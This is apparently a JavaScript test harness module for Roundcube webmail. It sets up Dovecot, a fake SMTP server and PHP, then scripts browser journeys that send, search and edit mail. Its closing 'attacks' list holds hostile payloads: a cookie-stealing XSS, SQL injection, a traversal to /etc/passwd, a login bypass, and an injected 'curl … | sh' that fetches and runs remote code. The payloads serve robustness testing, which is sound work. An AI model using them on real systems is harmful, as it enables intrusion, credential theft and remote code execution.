// Roundcube: mail in the browser, with Dovecot and a mail server that keeps
// what it is handed.
import { execFile, execFileSync } from 'node:child_process'
import { chmod, chown, mkdir, symlink, writeFile } from 'node:fs/promises'
import net from 'node:net'
import { userInfo } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { files, settled } from './state.mjs'
import { free } from './stage.mjs'
import { go, languages, markdown, pdf, png, python, script, shell, sql, table, tagged, zip } from './texts.mjs'

const password = "it's; a 'long' secret"
const nobody = 65534 // Dovecot gives nobody's mail to root

// mailServer takes mail (RFC 5321) and keeps it.
function mailServer(kept) {
  return net.createServer((socket) => {
    let text = '', message
    const say = (line) => socket.write(`${line}\r\n`)
    say('220 localhost')
    socket.on('error', () => {})
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1')
      for (let end; (end = text.indexOf('\r\n')) >= 0;) {
        const line = text.slice(0, end)
        text = text.slice(end + 2)
        if (message) {
          if (line !== '.') { message.push(line); continue }
          kept.push(message.join('\n'))
          message = undefined
          say('250 kept')
          continue
        }
        const verb = line.slice(0, 4).toUpperCase()
        if (verb === 'DATA') { message = []; say('354 go on') }
        else if (verb === 'QUIT') { say('221 bye'); socket.end() }
        else say('250 ok')
      }
    })
  })
}

const dovecot = (dir, port, root, name) => `
protocols = imap
listen = 127.0.0.1
base_dir = ${dir}/run
state_dir = ${dir}/run
log_path = ${dir}/dovecot-errors.log
ssl = no
disable_plaintext_auth = no
mail_location = maildir:${dir}/mail
${root ? '' : `default_internal_user = ${name}\ndefault_login_user = ${name}\n`}
passdb {
  driver = static
  args = nopassword=y
}
userdb {
  driver = static
  args = uid=${root ? nobody : process.getuid()} gid=${root ? nobody : process.getgid()} home=${dir}/mail
}
service imap-login {
  ${root ? '' : 'chroot ='}
  inet_listener imap {
    port = ${port}
  }
  inet_listener imaps {
    port = 0
  }
}
${root ? '' : 'service anvil {\n  chroot =\n}\n'}
`

async function login(user) {
  const page = await user.page()
  await page.goto('/?_task=login')
  await page.locator('#rcmloginuser').fill('jane')
  await page.locator('#rcmloginpwd').fill(password)
  await page.locator('#rcmloginsubmit').click()
  await page.locator('#messagelist').waitFor({ state: 'attached' })
  await page.waitForLoadState('networkidle')
}

// send writes a mail, attaches files, saves a draft, and sends it.
async function send(user, { to, subject, text, html, attach = [] }) {
  const page = await user.page()
  await page.goto(`/?_task=mail&_action=compose${html ? '&_html=1' : ''}`)
  await page.waitForFunction(() => !window.rcmail.busy)
  const recipient = page.locator('#compose_to input, #compose_to ul input').first()
  await recipient.fill(to)
  await recipient.press('Enter')
  await page.locator('#compose-subject').fill(subject)
  if (html) {
    await page.evaluate(() => window.rcmail.command('toggle-editor', { id: 'composebody', html: true }, undefined, {}))
    await page.waitForFunction(() => window.tinymce?.activeEditor?.initialized)
    await page.evaluate((content) => window.tinymce.activeEditor.setContent(content), html)
  } else {
    await page.locator('#composebody').fill(text)
  }
  for (const file of attach) {
    const done = page.waitForResponse((r) => r.url().includes('_action=upload') && r.request().method() === 'POST')
    await page.locator('input[type=file][name="_attachments[]"]').first().setInputFiles(file)
    if (!(await done).ok()) throw new Error(`attaching ${file.name}: ${(await done).status()}`)
    await page.locator('#attachment-list li:not(.uploading)', { hasText: file.name.slice(0, 5) }).waitFor()
  }
  const saved = page.waitForResponse((r) => r.request().method() === 'POST' && (r.request().postData() ?? '').includes('_draft=1'))
  await page.evaluate(() => window.rcmail.command('savedraft'))
  if (!(await saved).ok()) throw new Error('the draft was not saved')
  // The answer is loaded into a frame of this name, which the page then removes,
  // and with it a letter that is just about to be submitted into the same frame.
  await page.waitForFunction(() => window.rcmail.env.draft_id && !window.rcmail.busy && !document.querySelector('iframe[name=savetarget]'))
  const kept = user.app.sent.length
  await page.evaluate(() => window.rcmail.command('send', {}))
  await page.waitForURL(/_task=mail(?!.*compose)/)
  await page.waitForLoadState('networkidle')
  if (user.app.sent.length !== kept + 1) throw new Error('the mail was not sent')
}

async function letters(user) {
  await login(user)
  for (const code of ['de', 'ja', 'emoji']) {
    await send(user, { to: `"O'Brien, Pat" <pat+${code}@example.org>`, subject: `Re: ${languages[code].slice(0, 40)}`, text: `Hello Pat,\n\n${languages[code]}\n\n> It's "done" -- at 100 %.\n> > See https://example.org/a?b=1&c=2 & tell me.\n\n-- \nJane` })
  }
  await send(user, { to: 'zoe@example.org', subject: 'Minutes; photos & "report"', text: languages.fr,
    attach: [{ name: 'photo (1).png', mimeType: 'image/png', buffer: png }, { name: "jane's report.pdf", mimeType: 'application/pdf', buffer: pdf }] })
  await send(user, { to: 'zoe@example.org', subject: 'In colour', html: `<h2 style="color: #c00">It's <em>new</em></h2><p>${languages.ru} <a href="https://example.org/?a=1&amp;b=2" target="_blank">more</a></p><table border="1" style="width: 50%"><tbody><tr><td>1 &lt; 2</td><td>"quoted"</td></tr></tbody></table><ul><li>${languages.zh}</li></ul>` })
}

async function code(user) {
  await send(user, { to: 'dev@example.org', subject: 'The query is slow -- see below', text: `Hi,\n\nthis takes 3 s:\n\n${sql}\n\nand on the server I ran\n\n${shell}\n\nIs it the index?\n` })
  await send(user, { to: 'dev@example.org', subject: "What's in it", text: `Hi,\n\nthe endpoints:\n\n${table}\n\nJane\n`,
    attach: [{ name: 'tracked.py', mimeType: 'text/x-python', buffer: Buffer.from(python) }, { name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from(markdown) },
      { name: 'source.zip', mimeType: 'application/zip', buffer: zip({ 'main.go': go, 'setup.sh': shell }) }] })
}

const page = (user) => send(user, { to: 'dev@example.org', subject: 'The page', text: `Hi,\n\nwhy does this count twice?\n\n${script}\n\nJane\n` })

async function read(user) {
  const page = await user.page()
  await page.goto('/?_task=mail&_mbox=Sent')
  await page.locator('#messagelist').getByText('Minutes').first().waitFor()
  for (const words of ["O'Brien", 'Minutes; photos & "report"', 'Grüße -draft']) {
    const found = page.waitForResponse((r) => r.url().includes('_action=search'))
    await page.evaluate((q) => { document.querySelector('#mailsearchform').value = q; window.rcmail.command('search') }, words)
    await found
    await page.waitForFunction(() => !window.rcmail.busy)
  }
  await page.goto('/?_task=mail&_mbox=Sent&_uid=1&_action=show')
  await page.getByText('It\'s "done"').first().waitFor()
}

async function settings(user) {
  const page = await user.page()
  await page.goto('/?_task=settings&_action=edit-identity&_iid=1')
  await page.locator('[name=_name]').fill('Jane "JD" O\'Neill')
  await page.locator('[name=_organization]').fill('Müller & Söhne <Bau>')
  await page.locator('[name=_signature]').fill(`Jane O'Neill | +49 (151) 234 | 50% off; c'est "la vie"\nhttps://example.org/~jane/?a=1&b=2\n${languages.ar}`)
  const saved = page.waitForResponse((r) => r.request().method() === 'POST' && (r.request().postData() ?? '').includes('_signature'))
  await page.evaluate(() => window.rcmail.command('save'))
  if (!(await saved).ok()) throw new Error('the identity was not saved')
}

const rows = `echo json_encode(array_map(fn($q) => (new PDO("sqlite:$argv[1]"))->query($q)->fetchAll(PDO::FETCH_NUM),
  ['SELECT name, organization, email, signature FROM identities', 'SELECT name, email FROM collected_addresses ORDER BY email']));`

export default {
  name: 'roundcube',
  needs: { php: 'php-cli', '/usr/share/roundcube/index.php': 'roundcube-core', '/usr/share/doc/php-sqlite3': 'php-sqlite3', dovecot: 'dovecot-imapd' },

  async start(stage) {
    const [port, imap, root] = [await free(), await free(), process.getuid() === 0]
    const database = join(stage.dir, 'roundcube.db')
    for (const name of ['mail', 'config', 'logs', 'temp']) await mkdir(join(stage.dir, name))
    if (root) {
      await chmod(stage.dir, 0o711)
      await chown(join(stage.dir, 'mail'), nobody, nobody)
    }
    await writeFile(join(stage.dir, 'dovecot.conf'), dovecot(stage.dir, imap, root, userInfo().username))
    await stage.start('dovecot', ['-F', '-c', join(stage.dir, 'dovecot.conf')], { port: imap, env: { PATH: `${process.env.PATH}:/usr/sbin` } })
    const sent = []
    const smtp = await stage.serve(mailServer(sent))
    execFileSync('php', ['-r', '(new PDO("sqlite:$argv[1]"))->exec(file_get_contents("/usr/share/roundcube/SQL/sqlite.initial.sql"));', database])
    await symlink('/etc/roundcube/defaults.inc.php', join(stage.dir, 'config/defaults.inc.php'))
    await writeFile(join(stage.dir, 'config/config.inc.php'), `<?php
$config['db_dsnw'] = 'sqlite:///${database}?mode=0600';
$config['imap_host'] = '127.0.0.1:${imap}';
$config['smtp_host'] = '127.0.0.1:${smtp}';
$config['smtp_user'] = $config['smtp_pass'] = '';
$config['des_key'] = 'rcmail-!24ByteDESkey*Str';
$config['log_dir'] = '${stage.dir}/logs';
$config['temp_dir'] = '${stage.dir}/temp';
$config['plugins'] = [];
$config['create_default_folders'] = true;
$config['mail_domain'] = 'example.org';
$config['enable_spellcheck'] = false;
`)
    // One request at a time: Roundcube does not lock its session, and a list that is
    // answered while a letter is begun writes the session without the letter back.
    await stage.start('php', ['-S', `127.0.0.1:${port}`, '-t', '/var/lib/roundcube/public_html'], { port, env: { ROUNDCUBE_CONFIG_DIR: join(stage.dir, 'config') } })
    return { port, sent, database, mail: join(stage.dir, 'mail') }
  },

  journeys: [
    { name: 'letters, attachments, HTML', walk: letters },
    { name: 'letters with code', walk: code, hard: true },
    { name: 'reading and search', walk: read },
    { name: 'an identity and its signature', walk: settings },
    { name: 'a page with a script', walk: page, hard: true, known: tagged },
  ],

  // Times, identifiers and boundaries of mails differ, and so do file names.
  async state({ app }) {
    const plain = (text) => settled(text).replace(/^(Date|Message-ID|Received|User-Agent):.*$/gmi, '$1').replace(/=_[0-9a-f]{32}|[0-9a-f]{32}@/g, '<id>').replace(/\r/g, '')
    const kept = (await files(app.mail, (name) => /\/(cur|new)\//.test('/' + name))).map(([name, content]) => [name.replace(/(cur|new)\/.*?(:.*)?$/, '$2'), plain(content)])
    const { stdout } = await promisify(execFile)('php', ['-r', rows, app.database])
    return { kept: kept.map((m) => m.join('\n')).sort(), sent: app.sent.map(plain), rows: JSON.parse(stdout) }
  },

  attacks: [
    { target: `/?_task=mail&_mbox=${encodeURIComponent('"><svg onload=alert(document.cookie)>')}` },
    { target: `/?_task=mail&_uid=${encodeURIComponent("1' UNION SELECT username, 2 FROM users-- ")}` },
    { target: `/?_task=utils&_file=${encodeURIComponent('../../../../../../etc/passwd')}` },
    { method: 'POST', target: '/?_task=login', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ _user: "admin' OR '1'='1' -- ", _pass: 'x' }).toString() },
    { target: `/?_task=mail&_subject=${encodeURIComponent('; curl http://203.0.113.7/x | sh')}` },
  ],
}
